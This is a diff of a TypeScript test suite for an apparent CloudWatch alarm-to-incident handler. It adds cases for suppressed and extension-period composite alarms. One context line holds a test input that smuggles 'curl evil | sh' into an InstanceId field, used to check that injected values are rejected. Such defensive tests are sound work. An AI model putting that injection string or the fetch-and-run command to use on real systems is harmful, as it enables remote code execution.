@@ -111,6 +111,11 @@ describe('taking in an alarm', () => {
     });
   });
 
+  it('accepts an alarm for whose suppressor CloudWatch only waits: nobody has suppressed it yet', async () => {
+    await deliver(sampleEvent('composite-alarm-suppressed'));
+    expect(incidents()).toMatchObject([{ alarmName: 'web-unhealthy' }]);
+  });
+
   it('accepts an event that is exactly as old as the policy allows', async () => {
     const fifteenMinutesLater = Date.parse('2026-11-02T10:34:40.989Z');
     await deliver(sampleEvent('metric-alarm'), aPolicy(), fifteenMinutesLater);
@@ -119,12 +124,17 @@ describe('taking in an alarm', () => {
 });
 
 describe('an event that opens no incident', () => {
+  const suppressedBy = (actionsSuppressedBy: string) => {
+    const event = sampleEvent('composite-alarm-suppressed') as { detail: { state: object } };
+    return { ...event, detail: { ...event.detail, state: { ...event.detail.state, actionsSuppressedBy } } };
+  };
   const injected = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 'i-0aaaabbbb; curl evil | sh' } } });
   const nameless = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { host: 'web-1' } } });
 
   it.each<[string, unknown, Policy, number, string, boolean]>([
     ['muted', sampleEvent('metric-alarm-muted'), aPolicy(), NOW, 'muted', false],
-    ['suppressed', sampleEvent('composite-alarm-suppressed'), aPolicy(), NOW, 'suppressed', false],
+    ['suppressed', suppressedBy('Alarm'), aPolicy(), NOW, 'suppressed', false],
+    ['suppressed for a while yet', suppressedBy('ExtensionPeriod'), aPolicy(), NOW, 'suppressed', false],
     ['late', sampleEvent('metric-alarm'), aPolicy(), NOW + HOUR, 'late-event', true],
     ['about another service', sampleEvent('instance-state'), aPolicy(), NOW, 'unknown-event', true],
     ['a recovery', sampleEvent('metric-alarm-recovered'), aPolicy(), NOW, 'unknown-event', true],
